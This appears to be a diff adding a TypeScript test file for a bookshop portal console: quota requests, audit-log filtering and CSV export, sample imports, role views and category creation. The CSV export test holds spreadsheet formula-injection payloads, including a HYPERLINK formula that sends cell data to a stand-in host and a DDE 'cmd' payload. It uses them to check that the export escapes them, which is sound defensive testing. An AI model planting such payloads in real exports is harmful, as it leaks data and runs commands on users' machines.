@@ -1,0 +1,190 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { mailsTo } from '../../support/portal-client.ts';
+import { suiteApp } from '../../support/suite-app.ts';
+import { createTestApp } from '../../support/test-app.ts';
+import { faultsIn, partOf, signedIn, textOf } from '../site-kit.ts';
+
+const CONSOLE = '/portal/console';
+
+describe('requests for more calls', () => {
+  const app = suiteApp();
+  const PAGE = `${CONSOLE}/quota-requests`;
+  const asked = async () => {
+    const person = await signedIn(app);
+    await app.quotaRequests.add(person.accountId, 2_000_000, 'A campaign <b>');
+    const [request] = await app.quotaRequests.list(person.accountId);
+    return { person, at: String(request?.requestId) };
+  };
+  const stateOf = async (accountId: number) => (await app.quotaRequests.list(accountId))[0]?.status;
+
+  test('an approved one sets the limits, tells the account, and can be decided only once', async () => {
+    const support = await signedIn(app, 'support');
+    const { person, at } = await asked();
+    const html = await support.page(PAGE);
+    const values = { dailyQuota: 1_500_000, burst: 3, note: 'Welcome' };
+    assert.equal((await support.submitIn(html, PAGE, 'approve', values, at)).status, 200);
+    const account = await app.accounts.findAccount(person.accountId);
+    assert.deepEqual([account?.override.dailyQuota, account?.override.burst], [1_500_000, 3]);
+    assert.equal(await stateOf(person.accountId), 'approved');
+    assert.match((await mailsTo(app, person.email)).join(), /1,500,000[\s\S]*Welcome/);
+    const again = await support.submitIn(html, PAGE, 'deny', { note: 'No' }, at);
+    assert.deepEqual([again.status, await stateOf(person.accountId)], [409, 'approved']);
+    assert.ok((partOf(await support.page(`${PAGE}?state=decided`), 'decided') ?? '').includes(person.email));
+  });
+
+  test('a denied one needs words; the fault stands at the field of this request alone', async () => {
+    const support = await signedIn(app, 'support');
+    const [one, other] = [await asked(), await asked()];
+    const refused = await support.submit(PAGE, 'deny', { note: '' }, one.at);
+    assert.deepEqual([refused.status, faultsIn(refused.text)], [400, ['note']]);
+    assert.equal((await support.submit(PAGE, 'deny', { note: 'No' }, one.at)).status, 200);
+    assert.deepEqual(
+      [await stateOf(one.person.accountId), await stateOf(other.person.accountId)],
+      ['denied', 'waiting'],
+    );
+  });
+
+  test("a request can't be decided as that of another account", async () => {
+    const support = await signedIn(app, 'support');
+    const owner = await signedIn(app, 'owner');
+    await app.quotaRequests.add(owner.accountId, 2_000_000, 'Mine');
+    const [request] = await app.quotaRequests.list(owner.accountId);
+    const { at, person } = await asked();
+    const values = { requestId: request?.requestId ?? 0, note: 'No' };
+    assert.equal((await support.submit(PAGE, 'deny', values, at)).status, 409);
+    assert.deepEqual(
+      [await stateOf(owner.accountId), await stateOf(person.accountId)],
+      ['waiting', 'waiting'],
+    );
+  });
+});
+
+describe('the audit log', () => {
+  const app = suiteApp();
+
+  test('lines are narrowed down by who, what, account and day; older ones follow; a wrong day is told at its field', async () => {
+    const owner = await signedIn(app, 'owner');
+    const person = await signedIn(app);
+    for (let line = 0; line < 55; line++)
+      await app.auditTrail.record(owner.accountId, 'feed.imported', 'feed', { line });
+    const linesOf = async (query: string) => {
+      const html = await owner.page(`${CONSOLE}/audit?${query}`);
+      return { html, lines: (partOf(html, 'audit')?.match(/<time/g) ?? []).length };
+    };
+    assert.equal((await linesOf(`account=${person.email}`)).lines, 1);
+    assert.equal((await linesOf(`account=${person.accountId}&from=2026-11-21&until=2026-11-21`)).lines, 1);
+    assert.equal((await linesOf('until=2026-11-20')).lines, 0);
+    const first = await linesOf(`actor=account:${owner.accountId}&action=feed.imported`);
+    assert.equal(first.lines, 50);
+    const older = /older=(\d+)/.exec(first.html)?.[1];
+    assert.equal((await linesOf(`action=feed.imported&older=${older}`)).lines, 5);
+    assert.deepEqual(faultsIn((await linesOf('from=2026-13-01')).html), ['from']);
+  });
+
+  test('the file holds the same lines, and no cell that a spreadsheet program would run', async () => {
+    const owner = await signedIn(app, 'owner');
+    const reasons = [
+      '=HYPERLINK("http://evil.test/?"&A2,"open")',
+      "+1+cmd|' /C calc'!A0",
+      '@SUM(1)',
+      '-1',
+      '\t=1',
+    ];
+    for (const [at, reason] of reasons.entries()) {
+      const decided = await app.itemOverrides.decide(1001, { withheld: at % 2 === 0 }, reason);
+      const detail = { decision: decided?.decisionId };
+      await app.auditTrail.record(owner.accountId, 'item.decided', 'item:1001', detail);
+    }
+    for (const actor of ['=1+1', '+x']) await app.auditTrail.record(actor, '@action', '-target', { a: 1 });
+    const file = await owner.get(`${CONSOLE}/audit.csv`);
+    assert.match(String(file.headers['content-disposition']), /audit_2026-11-21\.csv/);
+    const cells = file.text.split(/[,\r\n]+/).map((cell) => cell.replace(/^"/, ''));
+    for (const cell of ["'=1+1", "'@action", "'@SUM(1)"]) assert.ok(cells.includes(cell), cell);
+    assert.deepEqual(
+      cells.filter((cell) => /^\s*[=+@-]/.test(cell)),
+      [],
+    );
+    assert.equal((await (await signedIn(app, 'shop')).get(`${CONSOLE}/audit.csv`)).status, 403);
+  });
+});
+
+test('an empty shop says its first steps, with sample files that can be imported, until they are done', async (t) => {
+  const app = await createTestApp(t);
+  const owner = await signedIn(app, 'owner');
+  assert.ok(partOf(await owner.page(CONSOLE), 'steps') !== null);
+  for (const name of ['categories', 'books', 'orders']) {
+    assert.match(await owner.page(CONSOLE), new RegExp(`samples/${name}\\.csv`));
+    const file = await owner.get(`${CONSOLE}/samples/${name}.csv`);
+    const [head = '', ...rows] = file.text
+      .replace('\ufeff', '')
+      .trim()
+      .split('\n')
+      .map((row) => row.split(','));
+    const kind = { categories: 'category', books: 'item', orders: 'sale' }[name];
+    assert.ok(Array.isArray(head) && kind !== undefined && rows.length > 1, name);
+    const report = await app.feed(rows.map((row) => recordOf(kind, head, row)));
+    assert.deepEqual([report.committed, report.problemCount], [true, 0], name);
+  }
+  await app.rank();
+  assert.equal(partOf(await owner.page(CONSOLE), 'steps'), null);
+});
+
+/** A row of a sample file as the record that the reader of tables makes of it. */
+function recordOf(kind: string, head: readonly string[], row: readonly string[]): object {
+  const cells = head.map((name, at) => [name, row[at] ?? ''] as const).filter(([, text]) => text !== '');
+  const read = (name: string, text: string) => {
+    if (/Ids$/.test(name)) return [text];
+    if (name === 'authors') return [{ author: text }];
+    return /^(itemId|lineNo|quantity|age|.*Price)$/.test(name) ? Number(text) : text;
+  };
+  return { kind, ...Object.fromEntries(cells.map(([name, text]) => [name, read(name, text)])) };
+}
+
+describe('the overview', () => {
+  const app = suiteApp();
+
+  test('shows what a role may see', async () => {
+    for (const [role, seen] of [
+      ['support', false],
+      ['shop', true],
+    ] as const) {
+      const html = await (await signedIn(app, role)).page(CONSOLE);
+      assert.deepEqual(
+        [html.includes(`${CONSOLE}/shop"`), html.includes(`${CONSOLE}/quota-requests"`)],
+        [seen, !seen],
+        role,
+      );
+    }
+  });
+
+  test('operators choose whether they get mail; the choice is in the audit log', async () => {
+    const shop = await signedIn(app, 'shop');
+    const set = async (wanted: string | undefined) => {
+      await shop.submit(CONSOLE, 'mails', { wanted });
+      return app.operatorMails.areWanted(shop.accountId);
+    };
+    assert.deepEqual([await set(undefined), await set('yes')], [false, true]);
+    assert.ok(app.readAudit().includes(`account.mails account:${shop.accountId}`));
+  });
+
+  test('a category is made in the console, once, and its place is in the tree', async () => {
+    const shop = await signedIn(app, 'shop');
+    const PAGE = `${CONSOLE}/categories`;
+    const made = await shop.submit(PAGE, 'add', {
+      categoryId: '001009',
+      categoryName: '시 & 희곡',
+      parentId: '001',
+    });
+    assert.equal(made.status, 200);
+    assert.ok(textOf(partOf(made.text, 'categories') ?? '').includes('국내도서 > 시 & 희곡'));
+    for (const [categoryId, parentId] of [
+      ['001009', ''],
+      ['bad id', ''],
+    ] as const) {
+      const refused = await shop.submit(PAGE, 'add', { categoryId, categoryName: 'X', parentId });
+      assert.deepEqual([refused.status, faultsIn(refused.text)], [400, ['categoryId']], categoryId);
+    }
+    assert.equal((await app.importLog.list(1))[0]?.actor, `account:${shop.accountId}`);
+  });
+});
